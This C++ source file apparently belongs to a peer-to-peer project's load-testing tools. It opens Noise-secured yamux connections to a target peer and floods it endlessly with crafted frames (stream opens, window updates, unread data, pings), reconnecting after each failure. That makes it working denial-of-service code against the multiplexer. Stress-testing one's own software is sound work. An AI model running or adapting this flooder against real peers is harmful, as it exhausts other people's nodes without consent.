#include "load/attacks.hpp"

#include <array>
#include <cstdio>
#include <memory>
#include <utility>
#include <vector>

#include "crypto/key.hpp"
#include "crypto/random.hpp"
#include "io/tcp.hpp"
#include "p2p/muxer/yamux_wire.hpp"
#include "p2p/security/secure_channel.hpp"

namespace kwaai::load {
namespace {

using p2p::YamuxHeader;
using p2p::YamuxType;

constexpr std::size_t kBatchBytes = 64 << 10;
constexpr std::uint32_t kWindow = 256 << 10;
constexpr std::chrono::milliseconds kPause{200};  // before the next connection

void append(std::vector<std::byte>& out, const YamuxHeader& header) {
    const auto bytes = encode(header);
    out.insert(out.end(), bytes.begin(), bytes.end());
}

// The same frames again and again, but for what rises.
class Frames {
public:
    explicit Frames(std::string kind) : kind_(std::move(kind)) {}

    [[nodiscard]] std::vector<std::byte> next() {
        std::vector<std::byte> out;
        while (out.size() < kBatchBytes)
            add(out);
        return out;
    }

private:
    void open(std::vector<std::byte>& out) {
        append(
            out,
            YamuxHeader{
                .type = YamuxType::window_update, .flags = p2p::yamux_flag::kSyn, .stream = id_});
        id_ += 2;
    }

    void add(std::vector<std::byte>& out) {
        if (kind_ == "opens-streams") return open(out);
        if (kind_ == "window-updates") {
            if (id_ == 1) open(out);
            // Most of them add nothing: the sum must stay below 32 bits.
            return append(out, YamuxHeader{.type = YamuxType::window_update, .stream = 1});
        }
        if (kind_ == "unread-bytes") {
            open(out);
            append(out, YamuxHeader{.stream = id_ - 2, .length = kWindow});
            out.resize(out.size() + kWindow);
            return;
        }
        if (id_ < 500) open(out);
        append(out,
               YamuxHeader{
                   .type = YamuxType::ping, .flags = p2p::yamux_flag::kSyn, .length = ++ping_});
    }

    std::string kind_;
    std::uint32_t id_ = 1;
    std::uint32_t ping_ = 0;
};

io::Task<Result<>> attack_once(io::Network& network,
                               p2p::Multiaddr address,
                               std::string kind,
                               crypto::PrivateKey key) {
    const auto target = address.tcp_target();
    io::Address socket{.host = target->host, .port = target->port};
    KWAAI_CO_TRY(auto raw, co_await network.connect(std::move(socket)));
    const p2p::SecureIdentity identity(key, {p2p::Security::noise}, crypto::fill_random);
    const std::vector<p2p::Security> securities{p2p::Security::noise};
    const std::vector<std::string> muxers{"/yamux/1.0.0"};
    KWAAI_CO_TRY(
        const p2p::SecureChannel channel,
        co_await secure_outbound(std::move(raw), identity, securities, muxers, address.peer()));
    Frames frames(std::move(kind));
    while (true) {
        const std::vector<std::byte> batch = frames.next();
        const Bytes bytes(batch);
        KWAAI_CO_CHECKED(co_await channel.stream->write(bytes));
    }
}

}  // namespace

io::Task<void> attack(io::Loop& loop, p2p::Multiaddr address, std::string kind) {
    io::TcpNetwork network(loop);
    const auto key = crypto::PrivateKey::generate(crypto::KeyType::ed25519);
    std::size_t count = 0;
    while (key) {
        const Result<> ended = co_await attack_once(network, address, kind, *key);
        std::fprintf(stderr, "%s: %s\n", kind.c_str(), ended ? "" : ended.error().context.c_str());
        std::printf("ended %zu\n", ++count);
        std::fflush(stdout);
        co_await loop.clock().sleep_for(kPause);
    }
}

}  // namespace kwaai::load
